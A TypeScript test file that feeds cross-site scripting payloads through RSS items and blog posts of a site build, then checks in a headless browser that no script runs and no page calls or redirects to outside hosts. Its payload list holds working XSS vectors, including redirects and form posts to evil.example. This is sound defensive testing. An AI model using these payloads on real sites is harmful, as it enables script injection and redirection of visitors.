import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { findCorpus } from '../scripts/corpus/find.ts';
import { serveSite } from '../scripts/serve.ts';
import { categorySlugs } from '../src/publication/categories.ts';
import { auditPage, installHooks } from './support/audit.ts';
import { openBrowser } from '../scripts/browser.ts';
import { toFeed } from './support/feed.ts';
import { openTestSite, type TestSite } from './support/rebuild.ts';

/** One of so many attacks of the corpus is tried; HALFHOUR_EVERY=1 tries them all, in half an hour. */
const every = Number(process.env['HALFHOUR_EVERY'] || 500);
/** Pages in use at once: while one waits, another works. */
const tabs = 4;
const corpus = findCorpus('xss');
const ours = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<astro-island component-url="/evil.js" client="load" ssr></astro-island>',
  '<form action="https://evil.example"><input type=submit autofocus onfocus=alert(1)></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '</script><script>alert(1)</script>',
  '<base href="https://evil.example/"><p style="background:url(//evil.example)">x',
];
const attacks = [...ours, ...(corpus ? readCorpus(corpus) : [])];
if (!corpus) console.warn('No corpus of attacks here: only our own are tried.');

function readCorpus(dir: string): string[] {
  const lines = readFileSync(path.join(dir, 'vectors.jsonl'), 'utf8').trim().split('\n');
  const chosen = lines.filter((_, index) => index % every === 0);
  return chosen.map((line) => (JSON.parse(line) as { payload: string }).payload);
}

const escape = (text: string) =>
  text
    .replaceAll(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd]/g, '')
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('"', '&quot;');
const toCdata = (text: string) => `<![CDATA[${text.replaceAll(']]>', ']]&gt;')}]]>`;
const toLine = (text: string) => text.replaceAll(/\s*[\r\n]+\s*/g, ' ');

/** An attack as title, link, guid, author, label, picture and text of a feed's item, in two spellings. */
function toItems(attack: string, index: number): string[] {
  const text = escape(attack);
  return [
    `<item><title>${text}</title><link>${text}</link><guid>${text}</guid><author>${text}</author>
     <category>${text}</category><enclosure type="image/jpeg" url="${text}"/><description>${text}</description></item>`,
    `<item><title>${toCdata(attack)}</title><link>https://paper.example/${index}</link>
     <description>${toCdata(attack)}</description></item>`,
  ];
}

/** A body with the attack as paragraph, link, picture, title, footnote and table cell. */
function toBody(attack: string): string {
  const line = toLine(attack);
  return [
    `Before ${line} after.`,
    `[text](${line}) [text](<${line}>) ![text](<${line}>) [text](/a "${line.replaceAll('"', '\\"')}")`,
    `| a |\n| - |\n| ${line.replaceAll('|', '\\|')} |`,
    `Note.[^1] Other.[^${line}]\n\n[^1]: ${line}\n[^${line}]: x`,
    attack,
  ].join('\n\n');
}

function plant({ newsroom, configure }: TestSite): void {
  const items = attacks.flatMap(toItems);
  const feeds: Record<string, string[]> = {};
  for (let start = 0, index = 0; start < items.length; start += 15, index += 1) {
    const body = toFeed(items.slice(start, start + 15), escape(attacks[index] ?? 'x'));
    newsroom.fail(`/attack/${index}.xml`, { kind: 'body', type: 'application/rss+xml', body });
    const category = categorySlugs[index % categorySlugs.length]!;
    (feeds[category] ??= []).push(`${newsroom.origin}/attack/${index}.xml`);
  }
  newsroom.shelf.posts = attacks.map((attack, index) => ({
    id: index,
    slug: `attack-${index}`,
    metaTitle: toLine(attack).trim() || 'x',
    metaDescription: attack,
    age: '1h',
    blog: toBody(attack),
    shortTailKeywords: attack,
    longTailKeywords: attack,
    picture: 'https://pictures.example/a.jpg',
    youtubeShortsUrl: attack,
  }));
  // What the publication itself plays and advertises comes alive when it is clicked, and is no attack.
  configure({ ...newsroom.publication(), ads: undefined, featuredVideo: undefined, feeds });
}

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser(['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1']);
});
afterAll(() => browser?.close());

/** Uses every page of a site in a tab of its own turn; answers with what attacks did, page by page. */
async function usePages(origin: string, routes: readonly string[]): Promise<string[]> {
  const context = await browser.newContext({ acceptDownloads: false });
  // A page has as long as a busy machine needs: this is about what it does, not how fast.
  context.setDefaultNavigationTimeout(300_000);
  await context.addInitScript(installHooks);
  const found: string[] = [];
  const waiting = [...routes];
  const useTab = async () => {
    const page = await context.newPage();
    let here = '';
    // Only told of, since whatever is held up is no longer kept: other hosts are out of reach anyway.
    page.on('request', (request) => {
      const isOurs = request.url().startsWith(origin) || request.url().startsWith('data:');
      // Pictures of other hosts are what a post may show; nothing else is.
      if (!isOurs && request.resourceType() !== 'image')
        found.push(`${here} asks ${request.url()}`);
    });
    page.on('popup', (popup) => found.push(`${here} opens ${popup.url()}`));
    page.on('framenavigated', (frame) => {
      if (frame.url() !== origin + here) found.push(`${here} goes to ${frame.url()}`);
    });
    for (let route = waiting.shift(); route !== undefined; route = waiting.shift()) {
      here = route;
      await page.goto(origin + route);
      const audit = await page.evaluate(auditPage);
      found.push(...[...audit.ran, ...audit.findings].map((each) => `${here}: ${each}`));
    }
  };
  await Promise.all(Array.from({ length: tabs }, useTab));
  await context.close();
  return found;
}

describe('attacks through feeds and posts', () => {
  test(
    'published by a real rebuild, run nothing, lead nowhere, break no policy and leave no trace',
    { timeout: 3_600_000 },
    async () => {
      const site = await openTestSite();
      plant(site);
      const { status, report } = await site.rebuild();
      expect({ status, problems: report.problems }).toEqual({ status: 0, problems: [] });
      const articles = Object.values(report.articles).reduce((sum, each) => sum + each, 0);
      expect(articles).toBeGreaterThan(attacks.length);
      expect(report.sources.at(-1)).toMatchObject({ kind: 'blog', items: attacks.length });

      const server = await serveSite(site.out, 0);
      const posts = attacks.map((_, index) => `/blog/attack-${index}`);
      const lists = Array.from({ length: Math.ceil(posts.length / 10) }, (_, index) =>
        index === 0 ? '/blog' : `/blog/page/${index + 1}`,
      );
      const categories = categorySlugs.map((slug) => `/${slug}`);
      const routes = ['/', ...categories, ...lists, ...posts];
      const found = await usePages(server.origin, routes);
      await server.close();
      expect(found).toEqual([]);
      console.log(
        `${attacks.length} attacks in ${articles} articles and as many posts, on ${routes.length} pages`,
      );
    },
  );
});
